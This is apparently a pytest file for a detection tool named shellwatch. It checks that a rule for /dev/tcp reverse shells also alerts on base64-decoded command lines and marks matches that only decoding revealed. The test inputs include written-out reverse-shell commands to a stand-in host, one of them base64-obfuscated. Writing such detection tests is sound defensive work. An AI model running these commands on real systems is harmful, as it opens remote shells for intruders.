"""Rules run a second time on the decoded command line; what only decoding revealed says so."""

from __future__ import annotations

from pathlib import Path

import pytest

from shellwatch.detect.ruleset import RuleSet
from shellwatch.detect.stage import DetectionStage
from shellwatch.events import Event

RULE = """
title: Reverse shell through /dev/tcp
id: 6b0e1a52-8d7e-4d4f-9b9e-2f1c1d0e0a01
logsource: {category: process_creation, product: linux}
detection:
    selection: {CommandLine|contains: '/dev/tcp/'}
    condition: selection
level: high
"""


@pytest.fixture()
def stage(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> DetectionStage:
    monkeypatch.setenv("SHELLWATCH_CACHE_DIR", str(tmp_path / "cache"))
    (tmp_path / "r.yml").write_text(RULE)
    return DetectionStage.from_ruleset(RuleSet.build([tmp_path / "r.yml"], builtin=False))


def _event(line: str, decoded: str | None = None) -> Event:
    event: Event = {
        "event.module": "auditd",
        "event.dataset": "auditd.log",
        "event.action": "executed",
        "event.category": ["process"],
        "event.type": ["start"],
        "host.os.type": "linux",
        "process.command_line": line,
        "process.args": line.split(),
    }
    if decoded is not None:
        event["shellwatch.decoded.command_line"] = decoded
    return event


def test_a_rule_that_matches_only_the_decoded_text_alerts_and_says_so(stage: DetectionStage) -> None:
    obfuscated = 'bash -c "$(echo YmFzaCAtaSA+JiAvZGV2L3RjcC8xLjIuMy40LzQ0MyAwPiYx | base64 -d)"'
    event = _event(obfuscated, 'bash -c "bash -i >& /dev/tcp/1.2.3.4/443 0>&1"')
    (alert,) = stage.process(event)
    assert alert["shellwatch.decoded.only"] is True
    assert alert["process.command_line"] == obfuscated  # the alert shows what was logged
    assert alert["shellwatch.decoded.command_line"] == event["shellwatch.decoded.command_line"]


def test_a_rule_that_matches_the_logged_text_alerts_once_without_the_mark(stage: DetectionStage) -> None:
    line = "bash -i >& /dev/tcp/1.2.3.4/443 0>&1"
    (alert,) = stage.process(_event(line, line.replace("1.2.3.4", "5.6.7.8")))
    assert "shellwatch.decoded.only" not in alert


def test_no_decoded_text_no_second_pass(stage: DetectionStage) -> None:
    assert stage.process(_event("ls -la /tmp")) == []
    assert stage.process(_event("echo aGk= | base64 -d", "echo hi")) == []
